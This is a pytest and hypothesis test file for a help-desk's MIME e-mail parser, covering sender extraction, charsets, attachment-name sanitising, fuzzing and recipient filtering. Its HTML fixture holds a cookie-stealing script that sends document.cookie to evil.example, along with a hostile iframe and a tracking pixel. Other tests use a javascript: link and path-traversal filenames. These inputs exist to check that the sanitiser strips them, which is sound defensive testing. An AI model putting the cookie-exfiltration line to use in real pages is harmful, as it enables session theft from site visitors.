"""The MIME parser: every shape of customer e-mail becomes a message, or a clear rejection."""

from __future__ import annotations

from email.message import EmailMessage

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fairdesk.tickets.intake import Incoming
from fairdesk.tickets.mail_parse import (
    EMPTY_BODY,
    UNREADABLE_BODY,
    MailRejected,
    html_to_text,
    parse_message,
)
from fairdesk.tickets.mail_server import accepts_recipient

SCRIPTED_HTML = """<html><head><title>t</title><style>p {color: red}</style>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><p>My order <b>#1234</b> arrived broken.</p>
<img src="https://track.example/open.gif?u=42" width="1" height="1">
<div onclick="steal()">Please <a href="https://shop.example/orders/1234">look</a>.</div>
<iframe src="https://evil.example/frame"></iframe><noscript>no js</noscript>
<ul><li>cup</li><li>saucer</li></ul></body></html>"""


def _mail(**headers: str) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = headers.pop("From", "Ann Lee <Ann@Example.com>")
    msg["To"] = "support@fairdesk.example"
    msg["Subject"] = headers.pop("Subject", "Broken cup")
    msg["Message-ID"] = headers.pop("Message_ID", "<m1@example.com>")
    for name, value in headers.items():
        msg[name.replace("_", "-")] = value
    return msg


def test_plain_text_with_sender_threading_ids_and_subject() -> None:
    msg = _mail(In_Reply_To="<ack-2@fairdesk.example>", References="<a@x> <ack-2@fairdesk.example>")
    msg.set_content("Hello,\n    the handle is off.\n\n\n\n\nAnn")
    incoming = parse_message(msg.as_bytes())
    assert incoming.email == "ann@example.com" and incoming.name == "Ann Lee"
    assert incoming.subject == "Broken cup" and incoming.email_message_id == "<m1@example.com>"
    assert incoming.in_reply_to == ["<ack-2@fairdesk.example>", "<a@x>"]
    assert incoming.body == "Hello,\n    the handle is off.\n\nAnn"


def test_plain_text_is_preferred_over_its_html_alternative() -> None:
    msg = _mail()
    msg.set_content("plain words")
    msg.add_alternative("<p>html words</p>", subtype="html")
    assert parse_message(msg.as_bytes()).body == "plain words"


def test_html_only_mail_is_sanitised_to_text() -> None:
    msg = _mail()
    msg.set_content(SCRIPTED_HTML, subtype="html")
    body = parse_message(msg.as_bytes()).body
    assert "My order #1234 arrived broken." in body
    assert "Please look <https://shop.example/orders/1234>." in body
    assert "cup\nsaucer" in body
    for gone in ("<", "script", "cookie", "track.example", "open.gif", "evil", "color", "no js"):
        assert gone not in body.replace("<https://shop.example/orders/1234>", ""), gone


def test_html_to_text_keeps_words_not_markup() -> None:
    assert html_to_text("a<br>b<p>c&amp;d &lt;e&gt;</p>") == "a\nb\nc&d <e>"
    assert html_to_text("<a href='javascript:alert(1)'>x</a>") == "x"


@pytest.mark.parametrize(
    ("charset", "data", "expected"),
    [
        ("iso-8859-1", "café".encode("latin-1"), "café"),
        ("koi8-r", "привет".encode("koi8-r"), "привет"),
        ("x-unknown-charset", "naïve".encode(), "naïve"),  # unknown: UTF-8 first
        ("x-unknown-charset", "naïve".encode("latin-1"), "naïve"),  # then Windows-1252
        ("utf-8", b"broken \xff bytes", "broken ÿ bytes"),  # declared wrongly
        ("rot13", b"plain", "plain"),  # a codec that is not a text encoding
    ],
)
def test_charsets_decode_or_fall_back(charset: str, data: bytes, expected: str) -> None:
    raw = (
        b"From: a@example.com\r\nContent-Type: text/plain; charset="
        + charset.encode()
        + b"\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        + data
    )
    assert parse_message(raw).body == expected


def test_encoded_words_in_headers_are_decoded() -> None:
    raw = (
        b"From: =?utf-8?q?J=C3=B6rg?= <j@example.com>\r\n"
        b"Subject: =?iso-8859-1?q?R=E9clamation?= =?x-bogus?q?abc?=\r\n\r\nhi"
    )
    incoming = parse_message(raw)
    assert incoming.name == "Jörg" and incoming.subject.startswith("Réclamation")


def test_attachments_are_kept_with_safe_names() -> None:
    msg = _mail()
    msg.set_content("see attached")
    msg.add_attachment(
        b"%PDF-1.4", maintype="application", subtype="pdf", filename="../../rcpt.pdf"
    )
    msg.add_attachment(b"\x89PNG", maintype="image", subtype="png", filename="C:\\temp\\photo.png")
    msg.add_attachment("notes", subtype="plain", filename="notes.txt")
    incoming = parse_message(msg.as_bytes())
    assert incoming.body == "see attached"
    assert [(a.filename, a.content_type, a.data) for a in incoming.attachments] == [
        ("rcpt.pdf", "application/pdf", b"%PDF-1.4"),
        ("photo.png", "image/png", b"\x89PNG"),
        ("notes.txt", "text/plain", b"notes\n"),
    ]


def test_image_inside_the_html_alternative_is_kept() -> None:
    msg = _mail()
    msg.set_content("plain")
    msg.add_alternative("<p>html <img src='cid:shot'></p>", subtype="html")
    html_part = msg.get_payload()[1]  # type: ignore[index]
    assert isinstance(html_part, EmailMessage)
    html_part.add_related(b"\x89PNG", maintype="image", subtype="png", cid="<shot>")
    incoming = parse_message(msg.as_bytes())
    assert incoming.body == "plain"
    assert [a.content_type for a in incoming.attachments] == ["image/png"]


def test_forwarded_message_is_attached_whole() -> None:
    inner = _mail(Subject="original")
    inner.set_content("the original text")
    msg = _mail()
    msg.set_content("forwarding this")
    msg.add_attachment(inner)
    incoming = parse_message(msg.as_bytes())
    [att] = incoming.attachments
    assert att.content_type == "message/rfc822" and b"the original text" in att.data


def test_empty_body_gets_a_placeholder() -> None:
    assert parse_message(b"From: a@example.com\r\nSubject: hi\r\n\r\n").body == EMPTY_BODY
    assert parse_message(b"From: a@example.com\r\n\r\n  \r\n\r\n").body == EMPTY_BODY


def test_malformed_mime_still_gives_the_text() -> None:
    raw = (
        b"From: a@example.com\r\nContent-Type: multipart/mixed; boundary=XYZ\r\n\r\n"
        b"--XYZ\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        b"not base64 at all!!\r\n"  # no closing boundary either
    )
    incoming = parse_message(raw)
    assert incoming.email == "a@example.com" and incoming.body


def test_mime_nested_past_any_limit_is_kept_as_the_original() -> None:
    levels = 5000
    raw = b"From: a@example.com\r\n" + b"".join(
        f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n'.encode()
        for i in range(levels)
    )
    incoming = parse_message(raw + b"Content-Type: text/plain\r\n\r\nhello\r\n")
    assert incoming.body == UNREADABLE_BODY
    assert [a.filename for a in incoming.attachments] == ["message.eml"]


def test_sender_falls_back_to_the_envelope() -> None:
    incoming = parse_message(b"Subject: x\r\n\r\nbody", envelope_from="Bounce@Example.com")
    assert incoming.email == "bounce@example.com"


@pytest.mark.parametrize("from_header", ["", "From: undisclosed-recipients:;\r\n", "From: <>\r\n"])
def test_no_sender_is_rejected_with_a_reason(from_header: str) -> None:
    with pytest.raises(MailRejected, match="no sender address"):
        parse_message(from_header.encode() + b"Subject: x\r\n\r\nbody")


def test_missing_message_id_is_derived_from_the_bytes() -> None:
    raw = b"From: a@example.com\r\n\r\nsame bytes"
    first, again = parse_message(raw), parse_message(raw)
    assert first.email_message_id and first.email_message_id == again.email_message_id
    assert parse_message(raw + b"!").email_message_id != first.email_message_id


@pytest.mark.parametrize(
    ("address", "ok"),
    [
        ("support@fairdesk.example", True),
        ("<Support@FairDesk.Example>", True),
        ("support+orders@fairdesk.example", True),
        ("sales@fairdesk.example", False),
        ("support@other.example", False),
        ("xsupport@fairdesk.example", False),
        ("@fairdesk.example", False),
    ],
)
def test_only_the_support_mailbox_is_accepted(address: str, ok: bool) -> None:
    assert accepts_recipient(address, "support@fairdesk.example") is ok


def _outcome(raw: bytes, envelope_from: str | None = None) -> Incoming | MailRejected:
    try:
        incoming = parse_message(raw, envelope_from=envelope_from)
    except MailRejected as exc:
        return exc
    _assert_storable(incoming)
    return incoming


def _assert_storable(incoming: Incoming) -> None:
    """What PostgreSQL would refuse: NUL characters, lone surrogates, over-long fields."""
    texts = [incoming.body, incoming.subject, incoming.email or "", incoming.name or ""]
    texts += [incoming.email_message_id or "", *incoming.in_reply_to]
    texts += [a.filename for a in incoming.attachments]
    texts += [a.content_type for a in incoming.attachments]
    for value in texts:
        value.encode("utf-8")  # raises on a lone surrogate
        assert "\x00" not in value
    assert len(incoming.name or "") <= 120 and len(incoming.email or "") <= 320
    assert all(len(i) <= 998 for i in [incoming.email_message_id or "", *incoming.in_reply_to])


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=4000), st.one_of(st.none(), st.emails()))
def test_arbitrary_bytes_never_raise(raw: bytes, envelope_from: str | None) -> None:
    outcome = _outcome(raw, envelope_from)
    if isinstance(outcome, Incoming):
        assert outcome.email and outcome.body and outcome.email_message_id
    else:
        assert envelope_from is None


HEADER_NAMES = st.sampled_from(
    [
        "From",
        "Subject",
        "Message-ID",
        "In-Reply-To",
        "References",
        "Content-Type",
        "Content-Transfer-Encoding",
        "Content-Disposition",
        "MIME-Version",
    ]
)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.tuples(HEADER_NAMES, st.text(max_size=120)), max_size=12),
    st.binary(max_size=600),
)
def test_arbitrary_headers_never_raise(headers: list[tuple[str, str]], body: bytes) -> None:
    head = b"".join(
        f"{name}: {value}".encode("utf-8", "surrogatepass") + b"\r\n" for name, value in headers
    )
    outcome = _outcome(head + b"\r\n" + body, "fallback@example.com")
    assert isinstance(outcome, Incoming) and outcome.body


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.tuples(
            st.sampled_from(
                ["text/plain", "text/html", "multipart/mixed", "image/png", "message/rfc822"]
            ),
            st.sampled_from(["utf-8", "x-bogus", "base64", "utf-7", "", "unicode_escape"]),
            st.sampled_from(["base64", "quoted-printable", "8bit", "x-uuencode", ""]),
            st.binary(max_size=200),
        ),
        max_size=6,
    )
)
def test_arbitrary_multipart_never_raises(parts: list[tuple[str, str, str, bytes]]) -> None:
    raw = b'From: a@example.com\r\nContent-Type: multipart/mixed; boundary="BB"\r\n\r\n'
    for ctype, charset, encoding, data in parts:
        raw += (
            (
                f'--BB\r\nContent-Type: {ctype}; charset="{charset}"; boundary="BB"\r\n'
                f"Content-Transfer-Encoding: {encoding}\r\n\r\n"
            ).encode()
            + data
            + b"\r\n"
        )
    outcome = _outcome(raw + b"--BB--\r\n")
    assert isinstance(outcome, Incoming) and outcome.body
